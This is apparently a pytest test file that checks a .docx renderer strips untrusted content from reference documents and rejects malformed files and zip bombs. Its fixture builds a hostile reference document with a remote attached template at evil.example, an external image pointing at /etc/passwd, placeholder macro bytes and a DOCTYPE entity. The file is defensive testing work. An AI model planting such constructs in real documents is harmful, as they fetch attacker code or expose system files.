"""Reference documents are untrusted: only styles, numbering, theme, fonts and page set-up come through.

A reference .docx may come from anyone who can open a pull request. Whatever
else it carries (settings with an attached template, protection and document
variables, footnotes, customXml, macros, external images, embedded fonts) must
not reach an output; a malformed one is a clear error naming the file, and a
zip bomb is refused before it is inflated.
"""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import pytest

from procure import styles
from procure.docx_render import build_docx
from procure.errors import StyleError
from tests.test_styles import MARKDOWN, META, make_reference

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REL = "http://schemas.openxmlformats.org/package/2006/relationships"
RT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def rewrite(path: Path, change: dict[str, bytes | None], rels: dict[str, list[str]] | None = None,
            types: list[str] | None = None) -> Path:
    """Rewrite a .docx: replace or drop entries, add relationships to rels parts and content types."""
    source = zipfile.ZipFile(io.BytesIO(path.read_bytes()))
    entries = {name: source.read(name) for name in source.namelist()}
    for name, data in change.items():
        if data is None:
            entries.pop(name, None)
        else:
            entries[name] = data
    for name, extra in (rels or {}).items():
        text = entries.get(name, f'<?xml version="1.0"?><Relationships xmlns="{REL}"></Relationships>'.encode())
        entries[name] = text.replace(b"</Relationships>", "".join(extra).encode() + b"</Relationships>")
    if types:
        entries["[Content_Types].xml"] = entries["[Content_Types].xml"].replace(
            b"</Types>", "".join(types).encode() + b"</Types>")
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name, data in entries.items():
            target.writestr(name, data)
    path.write_bytes(out.getvalue())
    return path


def rel(rid: str, kind: str, target: str, external: bool = False) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rid}" Type="{RT}/{kind}" Target="{target}"{mode}/>'


def override(name: str, content_type: str) -> str:
    return f'<Override PartName="{name}" ContentType="{content_type}"/>'


SETTINGS = (f'<?xml version="1.0"?><w:settings xmlns:w="{W}" xmlns:r="{R}">'
            '<w:documentProtection w:edit="readOnly" w:enforcement="1" w:cryptProviderType="rsaAES" '
            'w:hash="SECRETHASHVALUE" w:salt="SALTSALT"/>'
            '<w:attachedTemplate r:id="rIdTpl"/>'
            '<w:docVars><w:docVar w:name="secret" w:val="DOCVARSECRET"/></w:docVars>'
            '</w:settings>').encode()
FOOTNOTES = (f'<?xml version="1.0"?><w:footnotes xmlns:w="{W}"><w:footnote w:id="1"><w:p><w:r>'
             '<w:t>HIDDENFOOTNOTE</w:t></w:r></w:p></w:footnote></w:footnotes>').encode()
FONTS = (f'<?xml version="1.0"?><w:fonts xmlns:w="{W}" xmlns:r="{R}"><w:font w:name="Georgia">'
         '<w:embedRegular r:id="rIdFont" w:fontKey="{00000000-0000-0000-0000-000000000000}"/>'
         '</w:font></w:fonts>').encode()


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    """A reference document carrying every kind of payload that once leaked."""
    path = make_reference(tmp_path / "hostile.docx")
    return rewrite(
        path,
        {"word/settings.xml": SETTINGS,
         "word/_rels/settings.xml.rels": (f'<?xml version="1.0"?><Relationships xmlns="{REL}">'
                                          + rel("rIdTpl", "attachedTemplate", "https://evil.example/t.dotm", True)
                                          + "</Relationships>").encode(),
         "word/footnotes.xml": FOOTNOTES,
         "word/vbaProject.bin": b"VBAPROJECTBYTES" * 10,
         "customXml/item9.xml": b"<secret>CUSTOMXMLSECRET</secret>",
         "word/fontTable.xml": FONTS,
         "word/fonts/font1.odttf": b"EMBEDDEDFONTBYTES",
         "word/_rels/fontTable.xml.rels": (f'<?xml version="1.0"?><Relationships xmlns="{REL}">'
                                           + rel("rIdFont", "font", "fonts/font1.odttf") + "</Relationships>").encode()},
        rels={"word/_rels/document.xml.rels": [
            rel("rIdFoot", "footnotes", "footnotes.xml"),
            '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
            'Target="vbaProject.bin"/>',
            rel("rIdCx", "customXml", "../customXml/item9.xml"),
            rel("rIdImg", "image", "file:///etc/passwd", True),
            rel("rIdLink", "hyperlink", "https://evil.example/track", True)]},
        types=[override("/word/footnotes.xml",
                        "application/vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml"),
               '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
               '<Default Extension="odttf" ContentType="application/vnd.openxmlformats-officedocument.obfuscatedFont"/>'],
    )


PAYLOADS = ["SECRETHASHVALUE", "documentProtection", "attachedTemplate", "evil.example", "DOCVARSECRET",
            "docVar", "HIDDENFOOTNOTE", "footnote", "VBAPROJECTBYTES", "vbaProject", "CUSTOMXMLSECRET",
            "customXml", "file:///", "EMBEDDEDFONTBYTES", "embedRegular", "odttf", "Oude kop"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_but_styles_and_page_leaves_a_reference(hostile: Path, payload: str) -> None:
    data = build_docx(MARKDOWN, META, hostile)
    package = zipfile.ZipFile(io.BytesIO(data))
    for name in package.namelist():
        assert payload.encode() not in package.read(name), (payload, name)
        assert payload not in name


def test_the_output_holds_only_known_parts_and_lists_exactly_those(hostile: Path) -> None:
    data = build_docx(MARKDOWN, META, hostile)
    package = zipfile.ZipFile(io.BytesIO(data))
    names = set(package.namelist())
    parts = {n for n in names if not n.endswith(".rels") and n != "[Content_Types].xml"}
    assert parts == {"word/document.xml", "word/styles.xml", "word/numbering.xml", "word/settings.xml",
                     "word/fontTable.xml", "word/theme/theme1.xml", "word/header1.xml", "word/footer1.xml",
                     "docProps/core.xml", "docProps/app.xml"}
    types = package.read("[Content_Types].xml").decode()
    listed = set(re.findall(r'PartName="/([^"]+)"', types))
    assert listed == parts
    assert set(re.findall(r'Extension="([^"]+)"', types)) == {"rels", "xml"}
    for name in names:
        if name.endswith(".rels"):
            text = package.read(name).decode()
            assert 'TargetMode="External"' not in text or "hyperlink" in text


def test_the_reference_keeps_its_look(hostile: Path) -> None:
    """Sanitising keeps what a reference is for: its fonts, styles and page."""
    ref = styles.reference_style(hostile)
    package = zipfile.ZipFile(io.BytesIO(ref.template))
    assert b"Georgia" in package.read("word/fontTable.xml")
    assert ref.id("heading 1") == "Kop1"
    settings = package.read("word/settings.xml")
    assert b"updateFields" in settings and b"docVars" not in settings


def _styles(body: str, root: str = "w:styles") -> bytes:
    return f'<?xml version="1.0"?><{root} xmlns:w="{W}">{body}</{root}>'.encode()


def _style(style_id: str | None, name: str) -> str:
    sid = f' w:styleId="{style_id}"' if style_id else ""
    return f'<w:style w:type="paragraph"{sid}><w:name w:val="{name}"/></w:style>'


MALFORMED = {
    "styles part missing": ({"word/styles.xml": None}, "styles part word/styles.xml is named but missing"),
    "styles not XML": ({"word/styles.xml": b"<w:styles><oops"}, "word/styles.xml is not well-formed XML"),
    "styles wrong root": ({"word/styles.xml": _styles("", "w:document")},
                          "root element of word/styles.xml is w:document, not w:styles"),
    "style without id": ({"word/styles.xml": _styles(_style(None, "Normal"))}, "style 'Normal' has no w:styleId"),
    "duplicate style ids": ({"word/styles.xml": _styles(_style("A", "Normal") + _style("A", "heading 1"))},
                            "style id 'A' is used twice"),
    "numbering wrong root": ({"word/numbering.xml": _styles("", "w:styles")},
                             "root element of word/numbering.xml is w:styles, not w:numbering"),
    "bad numbering id": ({"word/numbering.xml": _styles('<w:abstractNum w:abstractNumId="x1"/>', "w:numbering")},
                         "abstractNum with id 'x1', not a whole number"),
    "duplicate numbering id": ({"word/numbering.xml": _styles('<w:num w:numId="3"><w:abstractNumId w:val="0"/>'
                                                              '</w:num><w:num w:numId="3"/>', "w:numbering")},
                               "uses the w:num id 3 twice"),
    "document not XML": ({"word/document.xml": b"\x00\x01 not xml"}, "word/document.xml is not well-formed"),
    "no main document": ({"_rels/.rels": f'<Relationships xmlns="{REL}"/>'.encode()}, "no main document part"),
    "entity in styles": ({"word/styles.xml": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]>'
                          + _styles("")[len(b'<?xml version="1.0"?>'):]}, "DOCTYPE"),
    "huge page": ({"word/document.xml": (f'<w:document xmlns:w="{W}"><w:body><w:sectPr>'
                                         '<w:pgSz w:w="99999999" w:h="16838"/></w:sectPr></w:body></w:document>').encode()},
                  "pgSz w=99999999, outside"),
}


@pytest.mark.parametrize("change,message", list(MALFORMED.values()), ids=list(MALFORMED))
def test_malformed_reference_is_a_clear_error(tmp_path: Path, change: dict[str, bytes | None], message: str) -> None:
    path = rewrite(make_reference(tmp_path / "ref.docx"), change)
    with pytest.raises(StyleError) as caught:
        styles.reference_style(path)
    text = str(caught.value)
    assert str(path) in text
    assert re.search(message, text), text


def test_not_a_zip_is_a_clear_error(tmp_path: Path) -> None:
    path = tmp_path / "ref.docx"
    path.write_bytes(b"PK\x03\x04 truncated")
    with pytest.raises(StyleError, match="not a zip archive"):
        styles.reference_style(path)


def test_a_zip_bomb_is_refused_before_it_is_inflated(tmp_path: Path) -> None:
    bomb = _styles("<w:latentStyles/>" + " " * (8 * 1024 * 1024))
    path = rewrite(make_reference(tmp_path / "ref.docx"), {"word/styles.xml": bomb})
    assert path.stat().st_size < 200_000
    with pytest.raises(StyleError, match="zip bomb"):
        styles.reference_style(path)


def test_a_part_whose_directory_lies_is_cut_off_while_inflating(tmp_path: Path, monkeypatch) -> None:
    monkeypatch.setattr(styles, "MAX_PART_BYTES", 4096)
    monkeypatch.setattr(styles, "_RATIO_FLOOR", 10**9)
    with pytest.raises(StyleError, match=r"(inflate to|inflates to) more than|would inflate"):
        styles.reference_style(make_reference(tmp_path / "ref.docx"))


def test_render_with_a_malformed_reference_names_it(tmp_path: Path) -> None:
    from click.testing import CliRunner

    from procure.cli import cli
    from tests.test_cli import MINIMAL, assert_no_traceback, write

    path = rewrite(make_reference(tmp_path / "ref.docx"), MALFORMED["duplicate style ids"][0])
    result = CliRunner().invoke(cli, ["render", str(write(tmp_path, MINIMAL)), "-o", str(tmp_path / "out"),
                                      "--reference-doc", str(path)])
    assert_no_traceback(result)
    assert result.exit_code == 1 and "ref.docx" in result.output and "used twice" in result.output
